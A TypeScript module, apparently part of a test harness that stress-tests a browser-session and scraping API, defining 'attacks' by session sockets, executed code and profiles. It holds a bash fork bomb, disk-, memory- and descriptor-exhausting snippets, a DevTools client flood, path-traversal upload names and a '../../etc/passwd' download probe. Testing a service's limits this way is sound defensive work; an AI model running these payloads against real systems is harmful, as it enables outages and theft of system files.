import { WebSocket } from 'ws';
import type { Attack } from './attack.ts';
import { type Answer, type Attacker, listAt, textAt } from './attacker.ts';

/** Attacks by browser sessions: their sockets, their code, their files, their profiles. */

const CLIENTS = 90;
const CLIENT_MS = 1_000;
const CODE_SECONDS = 5;
/** Size of each file that code writes, in MiB. */
const FILE_MB = 64;

/** Code that takes what a session has, by language. */
const CODE: [language: string, code: string][] = [
  ['bash', ':(){ :|:& };:'],
  ['bash', `for n in $(seq 1000); do head -c ${FILE_MB}M /dev/zero > /downloads/$n; done`],
  ['bash', 'for n in $(seq 200000); do : > /downloads/f$n; done'],
  ['bash', 'for n in $(seq 100); do fallocate -l 4G /downloads/big$n; done'],
  ['bash', 'yes | head -c 500M'],
  ['python', 'a = []\nwhile True: a.append(bytearray(10**7))'],
  ['python', 'import socket\ns = []\nwhile True: s.append(socket.socket())'],
  [
    'python',
    'import socket\ns = []\nwhile True:\n  c = socket.socket(socket.AF_UNIX); c.connect("/run/browser/cdp.sock"); s.append(c)',
  ],
  ['node', 'const fs = require("fs"); const open = []; for (;;) open.push(fs.openSync("/dev/null"))'],
  ['node', 'for (;;);'],
  ['node', 'await Promise.all(Array.from({ length: 300 }, () => page.context().newPage()))'],
  ['node', 'await page.evaluate(() => { const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1)) })'],
];

const openSession = (
  attacker: Attacker,
  kind: 'browser' | 'interact',
  options: object = {},
): Promise<Answer> => attacker.call(`POST /v2/${kind}`, { json: { ttl: 120, activityTtl: 60, ...options } });

/** Opens many clients of the DevTools protocol at once, which send commands and leave. */
async function connectClients(attacker: Attacker, url: string): Promise<void> {
  const sockets = Array.from({ length: CLIENTS }, () => {
    const socket = new WebSocket(url);
    // Clients that are refused are closed.
    socket.on('error', () => undefined);
    socket.on('open', () => {
      for (let id = 1; id <= 100; id++)
        socket.send(JSON.stringify({ id, method: 'Target.createTarget', params: { url: 'about:blank' } }));
    });
    return socket;
  });
  await attacker.rest(CLIENT_MS);
  for (const socket of sockets) socket.terminate();
}

const clients: Attack = {
  name: 'clients',
  aim: `descriptors: ${CLIENTS} clients at once of one session, again and again`,
  async run(attacker) {
    const { body } = await openSession(attacker, 'browser');
    const path = { id: textAt(body, 'id') || 'none' };
    await attacker.repeat(1, async () => {
      if (textAt(body, 'cdpUrl')) await connectClients(attacker, textAt(body, 'cdpUrl'));
      await attacker.call('GET /v2/browser/{id}', { path });
      await attacker.call('POST /v2/browser/{id}/extend', { path, json: { ttl: 130 } });
      await attacker.call('GET /v2/browser');
    });
    await attacker.call('DELETE /v2/browser/{id}', { path });
  },
};

/** Executes code, one piece after the other, and uploads and lists files meanwhile. */
async function execute(attacker: Attacker, kind: 'browser' | 'interact'): Promise<void> {
  const { body } = await openSession(attacker, kind, { recordSession: true });
  const path = { id: textAt(body, 'id') || 'none' };
  const file = new Blob([new Uint8Array(4 * 1024 * 1024)]);
  await attacker.repeat(2, async (turn) => {
    const [language, code] = CODE[turn % CODE.length]!;
    await attacker.call(`POST /v2/${kind}/{id}/execute`, {
      path,
      json: { code, language, timeout: CODE_SECONDS },
    });
    const raw = new FormData();
    raw.append('file', file, `${'../'.repeat(20)}${turn}`);
    await attacker.call(`POST /v2/${kind}/{id}/files`, { path, raw });
    const listed = await attacker.call(`GET /v2/${kind}/{id}/downloads`, { path });
    const name = textAt(listAt(listed.body, 'files')[0], 'name') || '../../etc/passwd';
    await attacker.call(`GET /v2/${kind}/{id}/downloads/{name}`, { path: { ...path, name } });
    await attacker.call(`GET /v2/${kind}/{id}/replay`, { path });
  });
  await attacker.call(`POST /v2/${kind}/{id}/extend`, { path, json: { ttl: 130 } });
  await attacker.call(`GET /v2/${kind}/{id}`, { path });
  await attacker.call(`DELETE /v2/${kind}/{id}`, { path });
}

const code: Attack = {
  name: 'code',
  aim: 'processes, memory, descriptors and disk of code in sessions',
  async run(attacker) {
    await Promise.all([execute(attacker, 'browser'), execute(attacker, 'interact')]);
  },
};

const profiles: Attack = {
  name: 'profiles',
  aim: 'profiles under a new name each time, and pages that are taken over',
  async run(attacker) {
    await attacker.repeat(2, async (turn) => {
      const name = `${turn}-${'p'.repeat(100)}`;
      const kind = turn % 2 ? 'browser' : 'interact';
      const { body } = await openSession(attacker, kind, { profile: { name } });
      const page = await attacker.call('POST /v2/scrape', {
        json: {
          url: `${attacker.around.site}/growing`,
          profile: { name },
          timeout: attacker.timeoutMs,
          waitFor: 500,
        },
      });
      const path = { id: textAt(page.body, 'data', 'metadata', 'scrapeId') || 'none' };
      await attacker.call('POST /v2/scrape/{id}/interact', { path, json: { code: 'for (;;);', timeout: 2 } });
      await attacker.call('DELETE /v2/scrape/{id}/interact', { path });
      await attacker.call(`DELETE /v2/${kind}/{id}`, { path: { id: textAt(body, 'id') || 'none' } });
      await attacker.call('GET /v2/interact');
      await attacker.call('DELETE /v2/browser/profiles/{name}', { path: { name } });
      await attacker.call('DELETE /v2/interact/profiles/{name}', { path: { name } });
    });
  },
};

export const SESSION_ATTACKS: Attack[] = [clients, code, profiles];
